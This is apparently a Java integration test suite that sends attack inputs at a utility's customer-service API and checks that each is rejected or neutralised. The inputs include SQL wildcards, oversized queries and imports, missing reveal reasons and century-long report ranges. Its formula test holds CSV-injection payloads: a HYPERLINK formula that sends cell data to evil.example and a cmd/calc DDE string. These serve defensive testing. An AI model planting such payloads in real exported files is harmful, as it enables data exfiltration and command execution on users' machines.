package com.gridcare.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.gridcare.kernel.Groups;
import com.gridcare.testsupport.Api;
import com.gridcare.testsupport.GridCareTest;
import com.gridcare.testsupport.TestData;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * The surfaces the workspace, dashboard and import brought, attacked over HTTP against the real
 * application: search with SQL wildcards and 10,000 characters, revealing contact data without a
 * reason, reports over 100 years, a customer import of 1,000,000 lines, and spreadsheet formulas in
 * customer data. Each answer is a 4xx naming the field or a correct answer; never a 5xx; nothing half
 * written. (The rule workbook attacks are in {@code RuleUploadAttackTest}.)
 */
@GridCareTest
class NewSurfacesAttackTest {

    private static final String HEADER = "id,name,customerClass,supplyVoltageKv,contractedCapacityKva,contractStart,"
            + "contractTermYears,criticalLoad,priorityCare,greenPreference,area,preferredChannel,phone,email,address\n";

    @LocalServerPort
    int port;
    @Autowired
    TestData testData;
    @Autowired
    JdbcClient jdbc;

    private Api agent;
    private Api channel;

    @BeforeEach
    void users() {
        testData.users();
        agent = Api.at(port).as(Groups.CUSTOMER_SERVICE);
        channel = Api.at(port).as(Groups.CHANNEL_SYSTEMS);
    }

    private static String row(String id, String name) {
        return id + ",\"" + name.replace("\"", "\"\"") + "\",RESIDENTIAL,0.22,8,2020-01-01,,false,false,false,URBAN,SMS,,,\n";
    }

    private Api.Answer importCsv(String csv) {
        return channel.post("/api/v1/customers/import", "text/csv", csv.getBytes(StandardCharsets.UTF_8));
    }

    private JsonNode search(String q) {
        var answer = agent.get("/api/v1/search?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8));
        assertThat(answer.status()).as("q=" + q + " -> " + answer.body()).isEqualTo(200);
        return answer.json();
    }

    private static List<String> names(JsonNode answer) {
        var names = new ArrayList<String>();
        answer.path("customers").forEach(c -> names.add(c.path("name").asText()));
        return names;
    }

    @Test
    void searchTakesWildcardsAndBackslashesLiterallyAndRefuses10000Characters() {
        var token = "wc" + UUID.randomUUID().toString().replace("-", "").substring(0, 8);
        var literal = token + "a%b_c\\d!e";
        var lookalike = token + "aXbYc\\d!e";
        var other = token + "aZZbQQc";
        var result = importCsv(HEADER + row(token + "-1", literal) + row(token + "-2", lookalike) + row(token + "-3", other));
        assertThat(result.status()).as(result.body()).isEqualTo(202);
        assertThat(result.json().path("created").asInt()).isEqualTo(3);

        assertThat(names(search(token + "a%b"))).containsExactly(literal);
        assertThat(names(search(token + "a%b_c"))).containsExactly(literal);
        assertThat(names(search(token + "a%b_c\\d!e"))).containsExactly(literal);
        assertThat(names(search(token + "a_b"))).isEmpty();
        assertThat(names(search(token + "a!%b"))).isEmpty();
        assertThat(names(search(token))).containsExactlyInAnyOrder(literal, lookalike, other);
        for (var q : List.of("%%", "__", "\\\\", "!%", "%_\\")) {
            var answer = search(q);
            assertThat(names(answer)).as("q=" + q).allMatch(n -> n.toLowerCase(Locale.ROOT).contains(q.toLowerCase(Locale.ROOT)));
            assertThat(answer.path("cases").size()).as("q=" + q).isZero();
        }

        for (var q : List.of("a".repeat(10_000), "%".repeat(10_000), "_\\".repeat(5_000))) {
            var answer = agent.get("/api/v1/search?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8));
            assertThat(answer.status()).as(answer.body()).isEqualTo(400);
            assertThat(answer.json().path("detail").asText()).isEqualTo("q: must have at most 100 characters");
        }
        // 10,000 Chinese characters are 90 KB in the URL: the connector refuses them, in problem+json too
        var chinese = agent.get("/api/v1/search?q=" + URLEncoder.encode("电".repeat(10_000), StandardCharsets.UTF_8));
        assertThat(chinese.status()).as(chinese.body()).isEqualTo(400);
        assertThat(chinese.contentType()).startsWith("application/problem+json");
        assertThat(chinese.json().path("detail").asText()).startsWith("request: the request line or its headers are");
    }

    @Test
    void revealingWithoutAReasonIs400NamingTheReasonAndLogsNothing() {
        var customer = testData.residential();
        var before = accessLogEntries(customer);
        for (var body : List.of("{\"field\":\"PHONE\"}", "{\"field\":\"PHONE\",\"reason\":null}", "{\"field\":\"PHONE\",\"reason\":\"\"}",
                "{\"field\":\"ADDRESS\",\"reason\":\" \\t \"}", "{\"field\":\"PHONE\",\"reason\":\"" + "x".repeat(10_000) + "\"}")) {
            var answer = agent.post("/api/v1/customers/" + customer + "/reveal", body);
            assertThat(answer.status()).as(body + " -> " + answer.body()).isEqualTo(400);
            assertThat(answer.json().path("detail").asText()).as(body).startsWith("reason: ");
        }
        var noBody = agent.post("/api/v1/customers/" + customer + "/reveal", "");
        assertThat(noBody.status()).as(noBody.body()).isEqualTo(400);
        assertThat(accessLogEntries(customer)).isEqualTo(before);
    }

    private int accessLogEntries(String customer) {
        return jdbc.sql("SELECT COUNT(*) FROM customer_access_log WHERE customer_id = ?").param(customer)
                .query(Integer.class).single();
    }

    @Test
    void reportsOver100YearsAre400NamingTheEndOfThePeriod() {
        var supervisor = Api.at(port).as(Groups.SUPERVISORS);
        for (var report : List.of("satisfaction", "root-causes", "contacts")) {
            for (var period : List.of("from=1926-01-01&to=2025-12-31", "from=2026-01-01&to=2125-12-31",
                    "from=0001-01-01&to=9999-12-31", "from=2026-01-01&to=2028-01-02")) {
                for (var format : List.of("", "&format=csv")) {
                    var answer = supervisor.get("/api/v1/reports/" + report + "?" + period + format);
                    assertThat(answer.status()).as(report + "?" + period + " -> " + answer.body()).isEqualTo(400);
                    assertThat(answer.json().path("detail").asText()).isEqualTo("to: at most 731 days after from");
                }
            }
            var twoYears = supervisor.get("/api/v1/reports/" + report + "?from=2024-01-01&to=2025-12-31");
            assertThat(twoYears.status()).as(report + " -> " + twoYears.body()).isEqualTo(200);
        }
    }

    @Test
    void aCustomerImportOfAMillionLinesIsRefusedWhileStreamingAndWritesNothing() throws Exception {
        var prefix = "BIG" + UUID.randomUUID().toString().substring(0, 6);
        long lines = 1_000_000;
        var body = new InputStream() {
            private long line = -1;
            private byte[] current = HEADER.getBytes(StandardCharsets.US_ASCII);
            private int at;
            long sent;

            @Override
            public int read() {
                if (at == current.length) {
                    if (++line >= lines) return -1;
                    current = row(prefix + "-" + line, "Customer " + line).getBytes(StandardCharsets.US_ASCII);
                    at = 0;
                }
                sent++;
                return current[at++];
            }
        };
        var request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/customers/import"))
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(
                        (TestData.user(Groups.CHANNEL_SYSTEMS) + ":" + TestData.PASSWORD).getBytes(StandardCharsets.UTF_8)))
                .header("Content-Type", "text/csv")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> body))
                .build();
        var answer = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(413);
        assertThat(answer.body()).contains("\"detail\":\"body: the request body is larger than 1 MB\"");
        assertThat(jdbc.sql("SELECT COUNT(*) FROM customer WHERE id LIKE ?").param(prefix + "-%")
                .query(Integer.class).single()).isZero();

        // under the size limit, more rows than one file may carry: 400 naming the body, nothing saved
        var many = new StringBuilder(HEADER);
        for (int i = 0; i <= 10_000; i++) many.append(prefix).append('-').append(i).append(",N,RESIDENTIAL,0.22\n");
        var tooMany = importCsv(many.toString());
        assertThat(tooMany.status()).as(tooMany.body()).isEqualTo(400);
        assertThat(tooMany.json().path("detail").asText()).isEqualTo("body: at most 10000 rows per file, got 10001");
        assertThat(jdbc.sql("SELECT COUNT(*) FROM customer WHERE id LIKE ?").param(prefix + "-%")
                .query(Integer.class).single()).isZero();
    }

    @Test
    void formulasInCustomerDataNeverReachACsvGridCareWritesAsFormulas() throws IOException {
        var id = "FX-" + UUID.randomUUID().toString().substring(0, 8);
        var formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        var imported = importCsv(HEADER + row(id, formula) + row(id + "b", "+1+cmd|' /C calc'!A0")
                + row(id + "c", "@SUM(1,1)") + row(id + "d", "-2+3"));
        assertThat(imported.status()).as(imported.body()).isEqualTo(202);
        assertThat(imported.json().path("created").asInt()).isEqualTo(4);
        // kept as the customer wrote it: it is data, shown as text
        assertThat(names(search(id))).contains(formula);

        var supervisor = Api.at(port).as(Groups.SUPERVISORS);
        for (var report : List.of("satisfaction", "root-causes", "contacts")) {
            var csv = supervisor.get("/api/v1/reports/" + report + "?from=2024-01-01&to=2025-12-31&format=csv");
            assertThat(csv.status()).isEqualTo(200);
            assertFormulaSafe(csv.body());
        }
    }

    /** No cell of the file starts a formula, unless it is a plain number. */
    static void assertFormulaSafe(String csv) {
        for (var line : csv.split("\r?\n")) {
            for (var cell : line.split(",", -1)) {
                var text = cell.startsWith("\"") ? cell.substring(1) : cell;
                if (text.isEmpty() || text.matches("-?[0-9]+(\\.[0-9]+)?")) continue;
                assertThat("=+-@\t\r".indexOf(text.charAt(0))).as(line).isNegative();
            }
        }
    }
}
